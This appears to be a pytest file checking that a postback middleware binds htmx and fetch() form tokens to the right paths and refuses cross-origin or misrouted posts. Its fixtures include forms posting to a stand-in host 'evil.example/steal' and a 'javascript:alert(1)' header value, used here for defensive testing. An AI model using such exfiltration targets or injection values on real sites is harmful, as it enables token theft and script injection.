"""htmx and fetch() through the whole middleware (WebTest): the requests htmx sends are verified.

htmx posts a form's fields (the inserted ones too) to the URL its ``hx-post`` names, with
``HX-Request: true`` and ``HX-Current-URL`` (the page's URL); a fragment it fetches is swapped
into the page, so it needs no script tag and no ids, and its relative URLs resolve against the
page. Each test here sends what htmx (or a ``fetch()`` caller) would send and checks that the
middleware verified the event (the inner app sees ``environ["postback.event"]``) and stripped the
reserved fields, or refused a request sent where the tokens are not bound. Which forms get
tokens, bound to which path, is tested on the injector alone in ``test_inject.py``; the real
thing, in Chromium with htmx from npm, in ``browser/test_htmx_browser.py``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl

import pytest
import webtest

from postback_middleware import PostbackMiddleware
from postback_middleware.middleware import _document_url, _page_url

from .helpers import SCRIPT_TAG, code_blocks, hidden_fields, new_key

TOKENS = ("__VIEWSTATE", "__EVENTVALIDATION")
HTMX = '<script src="/static/htmx.min.js"></script>'

PAGES = {
    # the three cases, and the others of the brief
    "/a/page": '<form method="post" hx-post="/h1"><input name="note" value="kept">'
               '<button data-postback="save" data-postback-argument="1">Save</button></form>',
    "/b/page": f'{HTMX}<form method="post" action="/other"><input name="note" value="kept">'
               '<button hx-post="/h2" data-postback="go" data-postback-argument="2">Go</button>'
               "</form>",
    "/pages/main": f'{HTMX}<form method="post"><a href="#" data-postback="main">m</a></form>'
                   '<div id="slot" hx-get="/fragments/form"></div>',
    "/fragments/form": '<form method="post" hx-post="save"><input name="note" value="kept">'
                       '<button data-postback="frag" data-postback-argument="3">Save</button>'
                       "</form>",
    "/g/page": '<form method="post" data-postback-action="/api/save"><input name="note" '
               'value="kept"><span hidden data-postback="save" data-postback-argument="4">'
               "</span></form>",
    "/put/page": '<form method="post" action="/items/3" hx-put="/items/3">'
                 '<input name="note" value="kept"></form>',
    "/evil/page": '<form method="post" hx-post="https://evil.example/steal">'
                  '<input name="note" value="kept"></form>',
    "/evil/button": f'{HTMX}<form method="post"><a hx-post="//evil.example/steal">x</a></form>',
}


@dataclass
class Call:
    method: str
    path: str
    event: tuple[str, str] | None
    fields: dict[str, str]


@dataclass
class Site:
    """The inner app: ``PAGES`` for GETs; every request recorded."""

    calls: list[Call] = field(default_factory=list)

    def __call__(self, environ: dict[str, Any], start_response: Any) -> list[bytes]:
        length = int(environ.get("CONTENT_LENGTH") or 0)
        body = environ["wsgi.input"].read(length) if length else b""
        event = environ.get("postback.event")
        self.calls.append(Call(
            environ["REQUEST_METHOD"], environ["PATH_INFO"],
            None if event is None else (event.target, event.argument),
            dict(parse_qsl(body.decode("utf-8", "replace"), keep_blank_values=True)),
        ))
        page = PAGES.get(environ["PATH_INFO"], "<p>done</p>")
        data = f"<!DOCTYPE html><html><head><title>t</title></head><body>{page}</body></html>"
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                  ("Content-Length", str(len(data.encode())))])
        return [data.encode()]


@pytest.fixture
def site() -> Site:
    return Site()


@pytest.fixture
def app(site: Site) -> webtest.TestApp:
    return webtest.TestApp(PostbackMiddleware(site, secret_keys=[new_key()]))


def htmx_headers(current: str) -> dict[str, str]:
    """What htmx sends with each of its requests (the page's URL as ``HX-Current-URL``)."""
    return {"HX-Request": "true", "HX-Current-URL": current,
            "Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}


def form_fields(body: bytes, **values: str) -> dict[str, str]:
    """The fields of the page's first post form as a browser sends them (the app's ``note``,
    the inserted ones), with ``values`` set."""
    return {"note": "kept", **hidden_fields(body), **values}


def posted(app: webtest.TestApp, path: str, fields: dict[str, str], *, status: int = 200,
           headers: dict[str, str] | None = None, **options: Any) -> webtest.TestResponse:
    return app.post(path, fields, headers=headers or htmx_headers("http://localhost/"),
                    status=status, **options)


def test_form_hx_post_without_action_posts_back_to_its_hx_post(
    app: webtest.TestApp, site: Site
) -> None:
    page = app.get("/a/page")
    assert SCRIPT_TAG.search(page.body)  # (a page: the script tag, once)
    sent = form_fields(page.body, __EVENTTARGET="save", __EVENTARGUMENT="1")
    posted(app, "/h1", sent, headers=htmx_headers("http://localhost/a/page"))
    assert site.calls[-1].event == ("save", "1")
    assert site.calls[-1].fields == {"note": "kept"}  # (the reserved fields stripped)
    posted(app, "/a/page", sent)  # (and to the page's own URL: its postbacks go there)
    calls = len(site.calls)
    posted(app, "/elsewhere", sent, status=403)  # (nowhere else)
    assert len(site.calls) == calls  # (refused before the app)


def test_hx_post_button_inside_a_post_form_posts_back_to_its_hx_post(
    app: webtest.TestApp, site: Site
) -> None:
    page = app.get("/b/page")
    sent = form_fields(page.body, __EVENTTARGET="go", __EVENTARGUMENT="2")
    posted(app, "/h2", sent)
    assert site.calls[-1].event == ("go", "2")
    posted(app, "/other", sent)  # (its action: the client script's postbacks go there)
    posted(app, "/elsewhere", sent, status=403)


def test_a_fragment_posts_back_to_where_it_resolves_in_the_page(
    app: webtest.TestApp, site: Site
) -> None:
    """``hx-post="save"`` in a fragment fetched by the page /pages/main goes to /pages/save
    (relative to the page htmx swaps it into), not to /fragments/save."""
    fragment = app.get("/fragments/form", headers=htmx_headers("http://localhost/pages/main"))
    assert not SCRIPT_TAG.search(fragment.body)  # the page has it
    assert b' id="__' not in fragment.body  # the page's fields have those ids
    assert all(f'name="{token}"'.encode() in fragment.body for token in TOKENS)
    sent = form_fields(fragment.body, __EVENTTARGET="frag", __EVENTARGUMENT="3")
    posted(app, "/pages/save", sent, headers=htmx_headers("http://localhost/pages/main"))
    assert site.calls[-1].event == ("frag", "3")
    posted(app, "/fragments/save", sent, status=403)


@pytest.mark.parametrize(
    "current",
    [
        pytest.param("http://evil.example/pages/main", id="another-host"),
        pytest.param("https://localhost/pages/main", id="another-scheme"),
        pytest.param("http://localhost:8080/pages/main", id="another-port"),
        pytest.param("//localhost/pages/main", id="not-absolute"),
        pytest.param("/pages/main", id="a-path"),
        pytest.param("javascript:alert(1)//localhost/pages/main", id="javascript"),
        pytest.param("http://localhost/pages/main\n", id="control-character"),
        pytest.param("http://localhost/pages/ma in", id="space"),
        pytest.param("http://localhost/pages/" + "x" * 9000, id="too-long"),
        pytest.param("", id="empty"),
    ],
)
def test_hx_current_url_of_another_origin_is_ignored(
    app: webtest.TestApp, site: Site, current: str
) -> None:
    """The fragment is then edited against its own URL: its relative hx-post is bound to
    /fragments/save, and a post to /pages/save is refused."""
    headers = htmx_headers("http://localhost/")
    headers["HX-Current-URL"] = current
    fragment = app.get("/fragments/form", headers=headers)
    assert not SCRIPT_TAG.search(fragment.body)  # (still htmx's fragment)
    sent = form_fields(fragment.body, __EVENTTARGET="frag", __EVENTARGUMENT="3")
    posted(app, "/pages/save", sent, status=403)
    posted(app, "/fragments/save", sent)
    assert site.calls[-1].event == ("frag", "3")


OWN = None  # the request's own URL


@pytest.mark.parametrize(
    ("headers", "url"),
    [
        pytest.param({}, OWN, id="not-htmx"),
        pytest.param({"HX-Request": "false"}, OWN, id="hx-request-false"),
        pytest.param({"HX-Request": "true"}, "http://localhost/pages/main", id="htmx"),
        pytest.param({"HX-Request": "TRUE"}, "http://localhost/pages/main", id="htmx-upper"),
        pytest.param({"HX-Request": "true", "HX-Boosted": "true"}, OWN,
                     id="boosted-becomes-the-page"),
        pytest.param({"HX-Request": "true", "HX-History-Restore-Request": "true"}, OWN,
                     id="history-restore-becomes-the-page"),
    ],
)
def test_the_document_url(headers: dict[str, str], url: str | None) -> None:
    environ = webtest.TestRequest.blank(
        "/fragments/form", headers={"HX-Current-URL": "http://localhost/pages/main", **headers}
    ).environ
    assert _document_url(environ) == (url or _page_url(environ))
    assert _page_url(environ).endswith("/fragments/form")


def test_hx_current_url_is_read_only_from_htmx(app: webtest.TestApp) -> None:
    """Without HX-Request the response is a page: its own URL, the script tag, the ids."""
    page = app.get("/fragments/form", headers={"HX-Current-URL": "http://localhost/pages/main"})
    assert SCRIPT_TAG.search(page.body)
    assert b'id="__VIEWSTATE"' in page.body
    sent = form_fields(page.body, __EVENTTARGET="frag", __EVENTARGUMENT="3")
    posted(app, "/pages/save", sent, status=403)
    posted(app, "/fragments/save", sent)


def test_a_boosted_page_gets_no_script_tag_but_resolves_against_itself(
    app: webtest.TestApp, site: Site
) -> None:
    headers = {**htmx_headers("http://localhost/pages/main"), "HX-Boosted": "true"}
    page = app.get("/fragments/form", headers=headers)
    assert not SCRIPT_TAG.search(page.body)
    posted(app, "/fragments/save",
           form_fields(page.body, __EVENTTARGET="frag", __EVENTARGUMENT="3"))
    assert site.calls[-1].event == ("frag", "3")


@pytest.mark.parametrize("multipart", [False, True], ids=["urlencoded", "multipart"])
def test_data_postback_action_binds_the_tokens_for_a_fetch_caller(
    app: webtest.TestApp, site: Site, multipart: bool
) -> None:
    """``fetch("/api/save", {method: "POST", body: new FormData(form)})``: the form's fields,
    sent where its data-postback-action says."""
    page = app.get("/g/page")
    sent = form_fields(page.body, __EVENTTARGET="save", __EVENTARGUMENT="4")
    headers = {"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"}
    options: dict[str, Any] = {"content_type": "multipart/form-data"} if multipart else {}
    posted(app, "/api/save", sent, headers=headers, **options)
    assert site.calls[-1].event == ("save", "4")
    posted(app, "/elsewhere", sent, headers=headers, status=403, **options)


def test_a_form_htmx_puts_gets_no_fields_and_its_put_goes_through(
    app: webtest.TestApp, site: Site
) -> None:
    page = app.get("/put/page")
    assert b"__EVENTTARGET" not in page.body
    assert not SCRIPT_TAG.search(page.body)  # (no post form: nothing inserted)
    app.put("/items/3", {"note": "kept"}, headers=htmx_headers("http://localhost/put/page"))
    assert (site.calls[-1].method, site.calls[-1].fields) == ("PUT", {"note": "kept"})


@pytest.mark.parametrize("path", ["/evil/page", "/evil/button"])
def test_no_tokens_for_a_form_htmx_would_post_to_another_origin(
    app: webtest.TestApp, path: str
) -> None:
    page = app.get(path)
    assert b'name="__EVENTTARGET"' in page.body
    assert not any(f'name="{token}"'.encode() in page.body for token in TOKENS)


def test_the_fragment_of_another_page_is_refused_where_that_page_posts(
    app: webtest.TestApp, site: Site
) -> None:
    """Tokens of a fragment fetched for page A (HX-Current-URL) are bound where A sends it;
    another page's path refuses them, as for any page."""
    fragment = app.get("/fragments/form", headers=htmx_headers("http://localhost/elsewhere/x"))
    sent = form_fields(fragment.body, __EVENTTARGET="frag", __EVENTARGUMENT="3")
    posted(app, "/pages/save", sent, status=403)
    posted(app, "/elsewhere/save", sent)
    assert site.calls[-1].event == ("frag", "3")



def test_the_readmes_example(site: Site) -> None:
    """The "htmx and fetch()" page's markup (docs/how-to), served as a page: each form posts
    back where the page says it is bound."""
    [markup] = code_blocks("docs/how-to/htmx-and-fetch.md", "htmx and fetch()", "html")
    PAGES["/readme"] = markup
    try:
        app = webtest.TestApp(PostbackMiddleware(site, secret_keys=[new_key()]))
        page = app.get("/readme")
        headers = htmx_headers("http://localhost/readme")
        for index, (path, target, argument) in enumerate([
            ("/orders/save", "save", "17"), ("/orders/check", "check", ""),
            ("/api/orders", "", ""),
        ]):
            sent = {"note": "n", **hidden_fields(page.body, index),
                    "__EVENTTARGET": target, "__EVENTARGUMENT": argument}
            posted(app, path, sent, headers=headers)
            assert site.calls[-1].path == path
            assert site.calls[-1].event == ((target, argument) if target else None)
            posted(app, "/elsewhere", sent, headers=headers, status=403)
    finally:
        del PAGES["/readme"]
